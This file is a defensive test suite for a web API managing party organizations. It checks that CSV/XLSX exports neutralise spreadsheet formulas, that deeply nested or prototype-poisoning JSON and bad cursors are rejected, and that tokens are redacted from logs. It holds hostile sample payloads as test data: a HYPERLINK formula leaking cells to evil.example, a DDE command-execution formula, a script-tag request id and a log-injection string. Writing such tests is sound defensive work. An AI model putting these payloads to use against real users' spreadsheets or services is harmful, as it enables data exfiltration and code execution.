import { mkdtempSync, mkdirSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import Fastify, { type FastifyInstance } from 'fastify';
import pino from 'pino';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { startStack, uniqueCode, type Stack } from '../helpers/context.js';
import { buildApp } from '../../src/api/app.js';
import web from '../../src/api/plugins/web.js';
import { loggerOptions, redactUrl } from '../../src/runtime/logger.js';
import { nestsDeeperThan } from '../../src/api/json-body.js';

// Inputs an attacker controls, each answered without harm: formulas in exported cells, secrets in the request
// log, a forged request id, JSON nested ten thousand deep, cursors PostgreSQL cannot compare, and the caching
// headers of the web UI.
describe('hostile inputs', () => {
  let s: Stack;
  const P = uniqueCode('H');
  const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")';
  const dde = "=cmd|' /C calc'!A0";
  // name, secretary: each a formula a spreadsheet would run
  const hostile: [code: string, name: string, secretary: string][] = [
    [`${P}V1`, hyperlink, dde],
    [`${P}V2`, '+SUM(1,2)', '-2+3'],
    [`${P}V3`, '@SUM(1,1)', '张伟'],
  ];
  const supervisorName = '-上级党委';
  const year = 2030;

  beforeAll(async () => {
    s = await startStack();
    const header = [
      'code',
      'parent_code',
      'name',
      'type',
      'sector',
      'term_years',
      'term_started_on',
      'secretary_name',
      'secretary_phone',
      'full_members',
      'probationary_members',
    ];
    const rows = [
      [`${P}R`, '', supervisorName, 'committee', 'regional', '5', '2025-06-01', '', '', '3', '0'],
      ...hostile.map(([code, name, sec]) => [code, `${P}R`, name, 'branch', 'rural', '5', '2025-06-01', sec, '13900000000', '20', '1']),
    ];
    const r = await s.app.inject({
      method: 'POST',
      url: '/api/v1/organizations/import',
      headers: { ...s.admin, 'content-type': 'text/csv' },
      payload: stringify([header, ...rows]),
    });
    expect(r.statusCode, r.body).toBe(200);
    const stored = await s.sql`select name, secretary_name from organizations where code = ${`${P}V1`}`;
    expect(stored[0]).toEqual({ name: hyperlink, secretary_name: dde });
  });
  afterAll(async () => s?.close());

  const neutral = (t: string) => `'${t}`;
  const planOf = (format: string) => s.app.inject({ headers: s.admin, url: `/api/v1/term-election/plan?year=${year}&format=${format}` });

  it('exports the term plan as CSV with every formula neutralised and numbers and dates as they are', async () => {
    const r = await planOf('csv');
    expect(r.statusCode, r.body).toBe(200);
    const rows = (parse(r.body, { columns: true, bom: true }) as Record<string, string>[]).filter((x) => x.code!.startsWith(P));
    expect(rows.map((x) => [x.code, x.name, x.secretaryName])).toEqual(hostile.map(([c, n, sec]) => [c, neutral(n), sec === '张伟' ? sec : neutral(sec)]));
    for (const x of rows) {
      expect(x.supervisorName).toBe(neutral(supervisorName));
      expect(x.termYears).toBe('5');
      expect(x.termEndsOn).toMatch(new RegExp(`^${year}-\\d\\d-\\d\\d$`));
    }
    // No field of the file begins with a formula character, whatever its column.
    for (const row of parse(r.body, { bom: true }) as string[][]) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('exports the term plan as XLSX with text cells only, neutralised as in the CSV, and numbers as numbers', async () => {
    const r = await planOf('xlsx');
    expect(r.statusCode).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(r.rawPayload as unknown as ArrayBuffer);
    const sheet = book.worksheets[0]!;
    const head = (sheet.getRow(1).values as unknown[]).slice(1) as string[];
    const col = (name: string) => head.indexOf(name) + 1;
    const ours: Record<string, ExcelJS.Row> = {};
    sheet.eachRow((row) => {
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        expect(cell.type).not.toBe(ExcelJS.ValueType.Hyperlink);
        if (typeof cell.value === 'string') expect(cell.value).not.toMatch(/^[=+\-@\t\r]/);
      });
      const code = row.getCell(col('code')).value;
      if (typeof code === 'string' && code.startsWith(P)) ours[code] = row;
    });
    for (const [code, name, sec] of hostile) {
      const row = ours[code]!;
      expect(row.getCell(col('name')).value).toBe(neutral(name));
      expect(row.getCell(col('secretaryName')).value).toBe(sec === '张伟' ? sec : neutral(sec));
      expect(row.getCell(col('supervisorName')).value).toBe(neutral(supervisorName));
      expect(row.getCell(col('termYears')).type).toBe(ExcelJS.ValueType.Number);
      expect(row.getCell(col('termYears')).value).toBe(5);
      expect(row.getCell(col('termEndsOn')).value).toMatch(new RegExp(`^${year}-\\d\\d-\\d\\d$`));
    }
  });

  describe('JSON bodies', () => {
    const login = (payload: string) => s.app.inject({ method: 'POST', url: '/api/v1/auth/login', headers: { 'content-type': 'application/json' }, payload });

    it('answers JSON nested 10,000 deep with 400 naming the body, before login', async () => {
      for (const body of ['['.repeat(10_000) + ']'.repeat(10_000), `{"username":${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)},"password":"x"}`]) {
        const r = await login(body);
        expect(r.statusCode, r.body).toBe(400);
        expect(r.json().error).toMatchObject({ code: 'invalid_request', details: [{ field: 'body' }] });
      }
    });

    it('keeps prototype-poisoning protection and ordinary parsing', async () => {
      const poisoned = await login('{"username":"x","password":"y","__proto__":{"admin":true}}');
      expect(poisoned.statusCode).toBe(400);
      expect((await login('{"username":')).statusCode).toBe(400);
      // Brackets inside strings are text, not nesting: an ordinary wrong password.
      const brackets = await login(JSON.stringify({ username: '"['.repeat(30), password: '{'.repeat(200) }));
      expect(brackets.statusCode, brackets.body).toBe(401);
    });

    it('counts nesting outside strings only', () => {
      expect(nestsDeeperThan('[[[]]]', 3)).toBe(false);
      expect(nestsDeeperThan('[[[[]]]]', 3)).toBe(true);
      expect(nestsDeeperThan('{"a":"[[[[\\"[[["}', 1)).toBe(false);
      expect(nestsDeeperThan('[{},{},{},{},{}]', 2)).toBe(false);
    });
  });

  describe('cursors', () => {
    const cursor = (key: unknown) => Buffer.from(JSON.stringify(key)).toString('base64url');
    const cases: [string, string][] = [
      ['/api/v1/organizations', cursor({ code: 'a\u0000b' })],
      ['/api/v1/units', cursor({ code: '\u0000' })],
      ['/api/v1/terms', cursor({ endsOn: '2027-01-01', code: 'x\u0000' })],
      ['/api/v1/people', cursor({ id: 1e20 })],
      ['/api/v1/people', cursor({ id: 1.5 })],
      ['/api/v1/people', cursor({ id: 2 ** 63 })],
      ['/api/v1/organizations', 'not-base64-json'],
      ['/api/v1/tasks', cursor({ dueAt: '0000-01-01T00:00:00Z', id: 1 })],
      ['/api/v1/tasks', cursor({ dueAt: '2026-01-01T00:00:00Z', id: 1e20 })],
    ];
    it.each(cases)('%s?cursor=%s is a 400 naming the cursor', async (url, c) => {
      const r = await s.app.inject({ headers: s.admin, url: `${url}?cursor=${c}` });
      expect(r.statusCode, r.body).toBe(400);
      expect(r.json().error.details).toEqual([expect.objectContaining({ field: 'querystring.cursor' })]);
    });

    it('still pages with the cursors the API issues', async () => {
      const first = (await s.app.inject({ headers: s.admin, url: `/api/v1/organizations?under=${P}R&limit=2` })).json();
      expect(first.nextCursor).toEqual(expect.any(String));
      const next = await s.app.inject({ headers: s.admin, url: `/api/v1/organizations?under=${P}R&limit=2&cursor=${first.nextCursor}` });
      expect(next.statusCode, next.body).toBe(200);
      expect([...first.items, ...next.json().items].map((o: { code: string }) => o.code)).toEqual([`${P}R`, ...hostile.map(([c]) => c)]);
    });
  });

  describe('the request log', () => {
    let app: FastifyInstance;
    const lines: string[] = [];
    beforeAll(async () => {
      // The options every process logs with (createLogger), written here instead of to stdout.
      const log = pino(loggerOptions({ level: 'info' }), { write: (l: string) => void lines.push(l) });
      app = await buildApp({ sql: s.sql, temporal: s.client, config: s.config, log });
      await app.ready();
    });
    afterAll(async () => app?.close());
    const logged = () => lines.map((l) => JSON.parse(l) as Record<string, unknown> & { reqId?: string; req?: { url?: string } });

    it('never holds the calendar token, a task link or an Authorization header', async () => {
      const issued = await app.inject({ method: 'POST', url: '/api/v1/calendar/token', headers: s.admin });
      expect(issued.statusCode).toBe(200);
      const { token } = issued.json() as { token: string };
      const feed = await app.inject({ url: `/api/v1/calendar.ics?token=${token}&x=1` });
      expect(feed.statusCode).toBe(200);
      await app.inject({ url: `/api/v1/calendar.ics?%74oken=${token}` });
      const link = randomBytes(32).toString('base64url');
      await app.inject({ url: `/t/${link}` });

      const text = lines.join('\n');
      const jwt = s.admin.authorization.slice('Bearer '.length);
      expect(text).not.toContain(token);
      expect(text).not.toContain(link);
      expect(text).not.toContain(jwt);
      const urls = logged()
        .map((l) => l.req?.url)
        .filter(Boolean);
      expect(urls).toContain('/api/v1/calendar.ics?token=[redacted]&x=1');
      expect(urls).toContain('/api/v1/calendar.ics?%74oken=[redacted]');
      expect(urls).toContain('/t/[redacted]');
    });

    it('takes a client X-Request-Id only when it is a short plain token', async () => {
      await app.inject({ url: '/healthz', headers: { 'x-request-id': 'lb-7f3a.2_x' } });
      expect(logged().some((l) => l.reqId === 'lb-7f3a.2_x')).toBe(true);
      for (const forged of ['<script>alert(1)</script>', 'a b', '"}{"level":60', 'x'.repeat(65)]) {
        const before = lines.length;
        await app.inject({ url: '/healthz', headers: { 'x-request-id': forged } });
        const ids = logged()
          .slice(before)
          .map((l) => l.reqId);
        expect(ids.length).toBeGreaterThan(0);
        for (const id of ids) expect(id).toMatch(/^[0-9a-f-]{36}$/);
      }
    });

    it('redacts credentials from URLs and nothing else', () => {
      expect(redactUrl('/api/v1/tasks?state=open&limit=5')).toBe('/api/v1/tasks?state=open&limit=5');
      expect(redactUrl('/api/v1/calendar.ics?token=olc_abc')).toBe('/api/v1/calendar.ics?token=[redacted]');
      expect(redactUrl('/x?a=1&access_token=s&TOKEN=t&b')).toBe('/x?a=1&access_token=[redacted]&TOKEN=[redacted]&b');
      expect(redactUrl('/t/abc?x=1')).toBe('/t/[redacted]?x=1');
      expect(redactUrl('/tasks/7')).toBe('/tasks/7');
      expect(redactUrl('/x?%E0=1')).toBe('/x?%E0=1');
    });
  });

  describe('web UI caching', () => {
    let app: FastifyInstance;
    beforeAll(async () => {
      const root = mkdtempSync(join(tmpdir(), 'orglife-web-'));
      mkdirSync(join(root, 'assets'));
      writeFileSync(join(root, 'index.html'), '<!doctype html><script src="/assets/index-AbC123.js"></script>');
      writeFileSync(join(root, 'assets', 'index-AbC123.js'), 'console.log(1)');
      app = Fastify();
      await app.register(web, { root });
    });
    afterAll(async () => app?.close());

    it('revalidates the page and its single-page routes, and keeps only the hashed bundles for good', async () => {
      for (const url of ['/', '/tasks/7', '/orgs/42?tab=terms', '/index.html']) {
        const r = await app.inject({ url });
        expect(r.statusCode, url).toBe(200);
        expect(r.headers['content-type']).toMatch(/^text\/html/);
        expect(r.headers['cache-control'], url).toBe('no-cache');
      }
      const bundle = await app.inject({ url: '/assets/index-AbC123.js' });
      expect(bundle.statusCode).toBe(200);
      expect(bundle.headers['cache-control']).toBe('public, max-age=31536000, immutable');
    });
  });
});
